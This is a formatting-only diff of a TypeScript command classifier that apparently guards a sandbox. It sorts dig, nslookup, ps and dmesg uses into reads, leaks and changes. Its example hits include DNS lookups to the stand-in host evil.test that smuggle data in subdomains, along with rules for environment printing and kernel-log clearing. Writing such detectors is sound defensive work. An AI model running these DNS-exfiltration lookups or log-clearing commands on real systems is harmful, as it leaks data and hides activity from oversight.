@@ -12,8 +12,7 @@ const queries = (use: Use): boolean => !queriesData(use);
 
 const setsClock: Test = ({ operands }) => operands.some(({ text }) => !text.startsWith("+"));
 const printsEnvironment: Test = (use) =>
-  use.has("-E") ||
-  /^[aAcefghjlmnorsStTuUvwxXZ]{0,12}e[aAcefghjlmnorsStTuUvwxXZ]{0,12}$/.test(use.operands[0]?.text ?? "");
+  use.has("-E") || /^[aAcefghjlmnorsStTuUvwxXZ]{0,12}e[aAcefghjlmnorsStTuUvwxXZ]{0,12}$/.test(use.operands[0]?.text ?? "");
 
 /** Programs that ask about names and hosts, the clock or the processes. */
 export const lookups = (): readonly Program[] => [
@@ -28,11 +27,7 @@ export const lookups = (): readonly Program[] => [
         hits: ["dig '\uFFFC.evil.test'", "nslookup 'a-\uFFFC.x.evil.test'"],
         misses: ["dig example.test", "dig +short '\uFFFC'", "host 'www.\uFFFC'"],
       },
-      {
-        if: queries,
-        does: (use) => optionPaths(use, "read", ["-f"]),
-        hits: ["dig +short example.test MX", "host example.test"],
-      },
+      { if: queries, does: (use) => optionPaths(use, "read", ["-f"]), hits: ["dig +short example.test MX", "host example.test"] },
     ],
   },
   {
@@ -42,9 +37,7 @@ export const lookups = (): readonly Program[] => [
       {
         if: any(
           queriesData,
-          all(flag("-p", "-e", "--file", "-E"), ({ options }) =>
-            options.some(({ value }) => value !== undefined && !isKnown(value.text)),
-          ),
+          all(flag("-p", "-e", "--file", "-E"), ({ options }) => options.some(({ value }) => value !== undefined && !isKnown(value.text))),
         ),
         does: "leak",
         why: "the packets carry data outward",
@@ -108,13 +101,8 @@ export const lookups = (): readonly Program[] => [
       { does: "harmless", hits: ["ps aux", "ps -ef"] },
     ],
   },
-  unless(
-    "dmesg",
-    not(flag("-c", "-C", "--clear", "--read-clear", "-D", "--console-off", "-n", "--console-level")),
-    "disarm",
-    {
-      reads: ["dmesg", "dmesg -T --level=err"],
-      changes: ["dmesg -C", "dmesg --clear"],
-    },
-  ),
+  unless("dmesg", not(flag("-c", "-C", "--clear", "--read-clear", "-D", "--console-off", "-n", "--console-level")), "disarm", {
+    reads: ["dmesg", "dmesg -T --level=err"],
+    changes: ["dmesg -C", "dmesg --clear"],
+  }),
 ];
